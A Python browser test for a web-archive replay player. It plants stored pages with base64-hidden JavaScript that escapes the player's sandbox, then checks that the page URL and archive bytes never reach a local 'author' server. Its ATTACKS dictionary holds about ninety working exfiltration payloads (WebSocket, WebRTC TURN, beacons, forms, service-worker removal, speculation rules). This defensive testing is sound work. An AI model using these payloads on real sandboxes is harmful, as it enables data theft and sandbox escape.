"""Scripts of stored pages may free themselves of the player and send what they read to their
author: none of it gets there.
"""

from __future__ import annotations

import json
import socket
from base64 import b64encode
from collections.abc import Iterator
from contextlib import contextmanager
from threading import Thread

import pytest
from django.urls import reverse
from playwright.sync_api import Locator, expect
from playwright.sync_api import Page as Tab

from crawling.models import AllowedNetwork, Page
from crawling.runs.start import start_run
from tests.browser.conftest import PATIENCE_MS, session_of
from tests.browser.house import make_crawl
from tests.crawling.conftest import do_shifts
from tests.crawling.uses.exports.wacz.test_wacz_file import made

pytestmark = [pytest.mark.drill, pytest.mark.timeout(1800)]

#: A navigation or connection that is permitted begins within this; it is no race that is won.
GRACE_MS = 700
#: The constructor of asynchronous functions, which the player does not rewrite, compiles what a
#: stored page hides from its rewriting.
FREED = """<title>Stored</title><h1>Stored</h1><script>
(async function () {}).constructor(atob("{hidden}"))()</script>"""
#: W: the real window; P: the player's, whose functions are not rewritten; U: an address of the
#: author's with D, what was read.
HIDDEN = """
  const W = Object.getOwnPropertyDescriptor(Document.prototype, "defaultView").get.call(document);
  let P;
  try { W.top.document.title; P = W.top } catch { P = W.top[0] }
  const source = new URLSearchParams(P.location.search).get("source");
  let D = btoa(P.location.href);
  try { D = btoa(W.top.location.href) } catch {}
  const file = await P.fetch(source, {headers: {Range: "bytes=0-9"}});
  if (!file.ok) throw new Error(`the file is not there: ${file.status}`);
  D = encodeURIComponent(D + btoa(await file.text()));
  const U = `http://{author}/?${D}`, WS = `ws://{author}/?${D}`;
  const put = (name, values, where = P.document) => {
    const made = where.createElement(name);
    Object.entries(values).forEach(([key, value]) => made.setAttribute(key, value));
    return where.body.appendChild(made);
  };
  const loaded = made => new Promise(tell => {
    made.addEventListener("load", () => tell(made.contentWindow));
    P.setTimeout(() => tell(made.contentWindow), 3000);
  });
  const peer = eval(`realm => {
    const made = new realm.RTCPeerConnection({iceServers: [
      {urls: ["stun:{author}", "turn:{author}", "turn:{author}?transport=tcp"],
        username: "${D}", credential: "x"}]});
    made.createDataChannel("${D}".slice(0, 60));
    made.createOffer().then(offer => made.setLocalDescription(offer));
  }`);
  try { {attack} } catch (error) { console.log("{name}", String(error)) }
  P.document.documentElement.dataset.tried = "{name}";
"""
ATTACKS = {
    "image": "new P.Image().src = U",
    "fetch": "await P.fetch(U, {mode: 'no-cors'})",
    "kept fetch": "await P.fetch(U, {mode: 'no-cors', keepalive: true, method: 'POST', body: D})",
    "beacon": "P.navigator.sendBeacon(U, D)",
    "event source": "new P.EventSource(U)",
    "WebSocket": "new P.WebSocket(WS)",
    "WebSocket of the stored page": "new W.WebSocket(WS); new WebSocket(WS)",
    "WebSocket of a player in a frame": """
        const other = await loaded(put('iframe', {src: '/index.html'}));
        new other.WebSocket(WS)""",
    "WebSocket of a worker": """new P.Worker(P.URL.createObjectURL(new P.Blob(
        [`new WebSocket('${WS}'); fetch('${U}', {mode: 'no-cors'})`])))""",
    "WebSocket of a missing page": """
        const missing = await loaded(put('iframe', {src: '/w/none/http://none.example/'}));
        new missing.WebSocket(WS)""",
    "WebSocket of an archive with another policy": """
        const {port1, port2} = new P.MessageChannel(), worker = P.navigator.serviceWorker;
        worker.controller.postMessage({msg_type: 'addColl', name: 'loose', skipExisting: false,
          extraConfig: {csp: "default-src * 'unsafe-inline'"},
          file: {sourceUrl: source, loadUrl: source, name: 'loose.wacz'}}, [port2]);
        await new Promise(tell => P.setTimeout(tell, 2000));
        const page = W.location.pathname.replace(/^.w.[^/]+/, '/w/loose');
        const loose = await loaded(put('iframe', {src: page.replace(/[^/]*$/, 'quiet')}));
        new loose.WebSocket(WS)""",
    "WebSocket without our service worker": """
        await P.navigator.serviceWorker.register('/released-sw.js', {scope: '/'}).catch(() => 0);
        await P.navigator.serviceWorker.register('/sw.js?replayPrefix=', {scope: '/'});
        await new Promise(tell => P.setTimeout(tell, 2000));
        const frame = await loaded(put('iframe', {src: '/index.html'}));
        new frame.WebSocket(WS)""",
    "WebSocket without any service worker": """
        for (const one of await P.navigator.serviceWorker.getRegistrations())
          await one.unregister();
        const frame = await loaded(put('iframe', {src: '/index.html'}));
        new frame.WebSocket(WS)""",
    "WebTransport": "new P.WebTransport(U.replace('http', 'https'))",
    "form": "put('form', {action: U, method: 'post'}).submit()",
    "form to the top": "put('form', {action: U, target: '_top'}).submit()",
    "form to another window": "put('form', {action: U, target: '_blank'}).submit()",
    "form in the stored page": "put('form', {action: U, target: '_top'}, W.document).submit()",
    "meta refresh": """P.document.head.insertAdjacentHTML('beforeend',
        `<meta http-equiv=refresh content="0;url=${U}">`)""",
    "meta refresh of the stored page": """W.document.head.insertAdjacentHTML('beforeend',
        `<meta http-equiv=refresh content="0;url=${U}">`)""",
    "location of the top": "W.top.location = U",
    "location of the top, replaced": "W.top.location.replace(U)",
    "location of the player": "P.location = U",
    "location of the stored page": "P.Reflect.get(W, 'location').assign(U); W.location = U",
    "history of the top": "W.top.history.pushState(0, '', U)",
    "link to the top": "put('a', {href: U, target: '_top'}).click()",
    "link to the top of the stored page": "put('a', {href: U, target: '_top'}, W.document).click()",
    "link to another window": "put('a', {href: U, target: '_blank'}).click()",
    "link to the parent": "put('a', {href: U, target: '_parent'}).click()",
    "download": "put('a', {href: U, download: 'x'}).click()",
    "ping": "put('a', {href: '#x', ping: U}).click()",
    "another window": "P.open(U); W.open(U); W.top.open(U)",
    "script URL": "W.top.location = `javascript:location='${U}'`",
    "script in the page with the frame": """
        W.top.document.body.append(W.top.document.createElement('script'))""",
    "frame without a sandbox": """P.frameElement.removeAttribute('sandbox');
        P.location.reload()""",
    "frame": "put('iframe', {src: U})",
    "frame with a document": """await loaded(put('iframe', {srcdoc:
        `<img src="${U}"><script>new WebSocket("${WS}"); top.location = "${U}"</scr` + `ipt>`}))""",
    "frame with data": """await loaded(put('iframe', {src: 'data:text/html,' +
        encodeURIComponent(`<img src="${U}"><script>new WebSocket("${WS}")</scr` + `ipt>`)}))""",
    "blank frame": """const blank = put('iframe', {}).contentWindow;
        new blank.WebSocket(WS); new blank.Image().src = U; blank.location = U""",
    "object": "put('object', {data: U}); put('embed', {src: U})",
    "style sheet": "put('link', {rel: 'stylesheet', href: U}); put('style', {}).textContent = "
    "`@import url('${U}'); html { background: url('${U}') }`",
    "script": "put('script', {src: U}); await P.eval(`import('${U}')`)",
    "media": "put('video', {src: U, poster: U}); put('audio', {src: U})",
    "prefetch": "put('link', {rel: 'prefetch', href: U}); put('link', {rel: 'prerender', href: U})",
    "preload": "put('link', {rel: 'preload', as: 'image', href: U});"
    "put('link', {rel: 'modulepreload', href: U})",
    "icon": "put('link', {rel: 'icon', href: U}); put('link', {rel: 'manifest', href: U})",
    "speculation rules": """put('script', {type: 'speculationrules'}).textContent =
        JSON.stringify({prefetch: [{urls: [U], eagerness: 'immediate'}],
          prerender: [{urls: [U], eagerness: 'immediate'}]})""",
    "source of an attribution": "put('img', {src: '/x.png', attributionsrc: U})",
    "connections ahead": "put('link', {rel: 'preconnect', href: U});"
    "put('link', {rel: 'preconnect', href: U, crossorigin: ''});"
    "put('link', {rel: 'dns-prefetch', href: U})",
    "connections ahead in the stored page": """
        put('link', {rel: 'preconnect', href: U}, W.document)""",
    "connection ahead from a blank frame": """
        const blank = put('iframe', {}).contentWindow.document;
        blank.open(); blank.write(`<link rel=preconnect href="${U}"><body>`); blank.close()""",
    "connection ahead from a frame with a document": """await loaded(put('iframe', {srcdoc:
        `<link rel=preconnect href="${U}"><link rel=dns-prefetch href="${U}">`}))""",
    "connection ahead from a frame with data": """await loaded(put('iframe', {src:
        'data:text/html,' + encodeURIComponent(`<link rel=preconnect href="${U}">`)}))""",
    "WebRTC": "peer(P)",
    "WebRTC of the stored page": "peer(W)",
    "WebRTC of a blank frame": "peer(put('iframe', {}).contentWindow)",
    "WebRTC of a blank frame in the stored page": """
        W.document.body.insertAdjacentHTML('beforeend', '<iframe id=made></iframe>');
        peer(W[W.length - 1])""",
    "WebRTC of a frame within a frame": """
        const outer = put('iframe', {}).contentWindow;
        peer(put('iframe', {}, outer.document).contentWindow)""",
    "WebRTC of a frame with a document": """
        const made = put('iframe', {srcdoc: `<body><script>(${peer})(self)</scr` + `ipt>`});
        peer(made.contentWindow); peer(await loaded(made))""",
    "WebRTC of a frame with data": """await loaded(put('iframe', {src: 'data:text/html,' +
        encodeURIComponent(`<script>(${peer})(self)</scr` + `ipt>`)}))""",
    "WebRTC of a frame with a blob": """await loaded(put('iframe', {src: P.URL.createObjectURL(
        new P.Blob([`<script>(${peer})(self)</scr` + `ipt>`], {type: 'text/html'}))}))""",
    "WebRTC of a frame with a script for an address": """
        put('iframe', {src: `javascript:(${peer})(self)`})""",
    "WebRTC of an object": """
        const made = put('object', {type: 'text/html', data: 'about:blank'});
        peer(made.contentWindow)""",
    "WebRTC of a player in a frame": "peer(await loaded(put('iframe', {src: '/index.html'})))",
    "WebRTC of a missing page": """
        peer(await loaded(put('iframe', {src: '/w/none/http://none.example/'})))""",
    "WebRTC of a file of the player": "peer(await loaded(put('iframe', {src: '/LICENSE'})))",
    "WebRTC of what the server refuses": """
        peer(await loaded(put('iframe', {src: '/archive/1/none'})));
        peer(await loaded(put('iframe', {src: '/open/none'})))""",
    "WebRTC without any service worker": """
        for (const one of await P.navigator.serviceWorker.getRegistrations())
          await one.unregister();
        peer(await loaded(put('iframe', {src: '/index.html'})))""",
    "WebRTC of a document that replaces another": """
        const made = put('iframe', {src: '/index.html'});
        const inner = await loaded(made);
        inner.document.open(); inner.document.write('<p>x'); inner.document.close();
        peer(made.contentWindow)""",
    "WebRTC of a blank frame with a fragment": """
        peer(await loaded(put('iframe', {src: 'about:blank#x'})))""",
    "stream of a WebSocket": "new P.WebSocketStream(WS); new W.WebSocketStream(WS)",
    "fetch later": "P.fetchLater(U, {activateAfter: 0}); W.fetchLater(U, {activateAfter: 0})",
    "request": """const asked = new P.XMLHttpRequest(); asked.open('POST', U); asked.send(D);
        const other = new W.XMLHttpRequest(); other.open('POST', U); other.send(D)""",
    "shared worker": """new P.SharedWorker(P.URL.createObjectURL(new P.Blob(
        [`new WebSocket('${WS}'); fetch('${U}', {mode: 'no-cors'});` +
          `new EventSource('${U}'); new WebTransport('${U}'.replace('http', 'https'));` +
          `importScripts('${U}')`])))""",
    "worker of a document in a frame": """await loaded(put('iframe', {srcdoc:
        `<script>new Worker(URL.createObjectURL(new Blob(["fetch('${U}', {mode: 'no-cors'});` +
          ` importScripts('${U}')"])))</scr` + `ipt>`}))""",
    "worker from elsewhere": "new P.Worker(U); new P.SharedWorker(U)",
    "service worker that the page stored": """
        await P.navigator.serviceWorker.register(`${W.location.pathname}?x`).catch(() => 0);
        await P.navigator.serviceWorker.register(U).catch(() => 0)""",
    "worklet": "P.CSS.paintWorklet?.addModule(U); new P.AudioContext().audioWorklet.addModule(U)",
    "speculation rules in the stored page": """
        put('script', {type: 'speculationrules'}, W.document).textContent =
        JSON.stringify({prefetch: [{urls: [U], eagerness: 'immediate'}],
          prerender: [{source: 'list', urls: [U], eagerness: 'immediate'}]})""",
    "speculation rules of a frame with a document": """await loaded(put('iframe', {srcdoc:
        `<script type=speculationrules>${JSON.stringify({prefetch: [{urls: [U],
          eagerness: 'immediate'}]})}</scr` + `ipt>`}))""",
    "font": "await new P.FontFace('x', `url(${U})`).load().catch(() => 0)",
    "drawing that names others": """put('div', {}).innerHTML =
        `<svg><image href="${U}"/><use href="${U}#x"/><filter id=f><feImage href="${U}"/></filter>`
        + `<rect filter="url(#f)" width=9 height=9 /><a href="${U}"><text>x</text></a></svg>`""",
    "styles of an attribute": """put('div', {style: `background: image-set(url("${U}") 1x);
        cursor: url("${U}"), auto; list-style: url("${U}"); content: url("${U}")`})""",
    "track and frames of old": """put('video', {}).innerHTML = `<track default src="${U}">`;
        put('frameset', {}).innerHTML = `<frame src="${U}">`; put('body', {background: U});
        put('table', {background: U}); put('input', {type: 'image', src: U})""",
    "navigation by the Navigation API": """W.navigation.navigate(U);
        W.top.navigation?.navigate(U)""",
    "payment": """new P.PaymentRequest([{supportedMethods: U}],
        {total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).canMakePayment()""",
    "log-in of another": """await P.navigator.credentials.get({identity: {providers:
        [{configURL: U, clientId: 'x'}]}}).catch(() => 0)""",
    "fenced frame": "put('fencedframe', {}).config = new P.FencedFrameConfig(U)",
    "report": """P.document.head.insertAdjacentHTML('beforeend', `<meta
        http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri ${U}">`);
        new P.Image().src = '/x.png'""",
    "redirect of another page": """await loaded(put('iframe',
        {src: W.location.pathname.replace(/[^/]*$/, 'away')}))""",
    "heads and markup of another page": """await loaded(put('iframe',
        {src: W.location.pathname.replace(/[^/]*$/, 'linked')}))""",
}


def hostile(name: str, attack: str, author: str) -> str:
    """A page that tries one of them."""
    script = HIDDEN.replace("{attack}", attack).replace("{author}", author).replace("{name}", name)
    return FREED.replace("{hidden}", b64encode(script.encode()).decode())


#: what the markup and the heads of a page may name to have browsers connect there ahead of requests
AHEAD = ("preconnect", "dns-prefetch", "prefetch", "prerender", "preload", "modulepreload")


def linked(author: str) -> tuple[int, dict[str, str], str]:
    """A page whose markup and heads lead to the author's server without a script."""
    rules = {"prefetch": [{"urls": [f"http://{author}/rules"], "eagerness": "immediate"}]}
    heads = {
        "Content-Type": "text/html",
        "Link": ", ".join(f"<http://{author}/{rel}>; rel={rel}; as=image" for rel in AHEAD),
        "Speculation-Rules": f'"http://{author}/rules.json"',
        "Reporting-Endpoints": f'default="http://{author}/reports"',
        "NEL": '{"report_to": "default", "max_age": 9, "success_fraction": 1.0}',
        "Refresh": f"1; url=http://{author}/refresh",
        "X-DNS-Prefetch-Control": "on",
        "Connection-Allowlist": f'("http://{author}/*")',
    }
    links = "".join(f'<link rel={rel} as=image href="http://{author}/{rel}">' for rel in AHEAD)
    script = f"<script type=speculationrules>{json.dumps(rules)}</script>"
    return 200, heads, f"<title>Linked</title>{links}{script}"


def await_try(page: Tab, tried: Locator) -> None:
    """Until the attack was made, or the browser has ended its page, as Chromium does with WebRTC in
    frames that may not have it.
    """
    crashed: list[Tab] = []
    page.on("crash", lambda ended: crashed.append(ended))
    try:
        expect(tried).to_be_attached()
    except AssertionError:
        assert crashed


#: the browser's error stands in the place of the player, and its console says what was refused
REFUSED_IN_PLACE = {"form", "meta refresh", "download"}


def is_refusal(said: str, address: str) -> bool:
    """Whether the browser says that a frame may not go to an address."""
    return f"'http://{address}/" in said and "frame-src" in said


@contextmanager
def author() -> Iterator[tuple[str, list[str]]]:
    """The server of the hostile page's author: its address, and the first line of each connection
    and the first bytes of each datagram that came.
    """
    came: list[str] = []
    with (
        socket.create_server(("127.0.0.1", 0)) as server,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams,
    ):
        datagrams.bind(server.getsockname())

        def take() -> None:
            while True:
                connection, _ = server.accept()
                with connection:
                    connection.settimeout(2)
                    try:
                        said = connection.recv(4096)
                        connection.sendall(
                            b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                        )
                    except OSError:
                        said = b""
                    if said == b"end":
                        return
                    came.append(said.partition(b"\r\n")[0].decode("latin-1"))

        def take_datagrams() -> None:
            while (said := datagrams.recv(4096)) != b"end":
                came.append(f"datagram of {len(said)} bytes")

        threads = [Thread(target=take), Thread(target=take_datagrams)]
        for thread in threads:
            thread.start()
        host, port = server.getsockname()
        try:
            yield f"{host}:{port}", came
        finally:
            with socket.create_connection((host, port)) as last:
                last.sendall(b"end")
            datagrams.sendto(b"end", (host, port))
            for thread in threads:
                thread.join()


def test_what_a_stored_page_reads_does_not_reach_its_author(
    replay_port, make_site, pool, chromium, live_server, user_of
):
    AllowedNetwork.objects.create(network="127.0.0.0/8", port_from=1024, port_to=65535)
    with author() as (address, came):
        paths = {name: f"/{number}" for number, name in enumerate(ATTACKS)}
        pages = {paths[name]: hostile(name, attack, address) for name, attack in ATTACKS.items()}
        pages |= {"/quiet": "quiet", "/linked": linked(address)}
        pages["/away"] = (302, {"Location": f"http://{address}/away"}, "")
        links = "".join(f'<a href="{path}">x</a>' for path in pages)
        site = make_site({"/": links, **pages})
        run = do_shifts(start_run(make_crawl("Hostile", f"{site.url}/")))
        made(run)
        context = chromium.new_context(base_url=live_server.url)
        context.set_default_timeout(PATIENCE_MS)
        context.add_cookies([session_of(user_of("operator"), live_server.url)])
        clock, reached = chromium.new_page(), {}  # of its own, for a page may be ended
        for name, path in paths.items():
            came.clear()
            page = context.new_page()
            stored = Page.objects.get(url__url=f"{site.url}{path}")
            replay = reverse("crawling:replay", args=[run.crawl_id]) + f"?page={stored.pk}"
            if name in REFUSED_IN_PLACE:
                with page.expect_console_message(lambda said: is_refusal(said.text, address)):
                    page.goto(replay)
            else:
                page.goto(replay)
                await_try(page, page.frames[1].locator(f"html[data-tried='{name}']"))
            clock.wait_for_timeout(GRACE_MS)
            for other in context.pages:
                other.close()
            if came:
                reached[name] = list(came)
        context.close()
        clock.close()

    assert reached == {}
